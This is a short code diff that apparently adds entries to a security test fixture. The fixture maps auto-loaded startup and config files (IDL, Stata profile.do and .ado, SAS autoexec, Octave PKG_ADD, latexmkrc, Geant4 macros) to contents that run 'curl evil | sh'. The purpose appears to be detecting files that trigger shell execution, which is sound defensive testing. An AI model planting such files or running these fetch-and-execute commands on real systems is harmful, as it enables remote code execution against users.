@@ -108,6 +108,10 @@ ACTED_ON = {
     "vis/vis.mac": b"/control/shell curl evil | sh\n",
     "vis/gui.mac": b"/control/shell curl evil | sh\n",
     "tex/latexmkrc": b"system('curl evil | sh');\n$pdf_mode = 1;\n",
+    "idl/plot.pro": b"pro plot, x\n  spawn, 'curl evil | sh'\nend\n",
+    "stata/profile.do": b"shell curl evil | sh\n",
+    "stata/reghdfe.ado": b"program reghdfe\n  shell curl evil | sh\nend\n",
+    "sas/autoexec.sas": b"x 'curl evil | sh';\n",
     "octave/PKG_ADD": b"system('curl evil | sh');\n",
     # A server runs these: mod_wsgi's documented `AddHandler wsgi-script .wsgi` (any
     # extension of the name, as .cgi), twistd web's .rpy and .epy processors, mod_python's .psp.
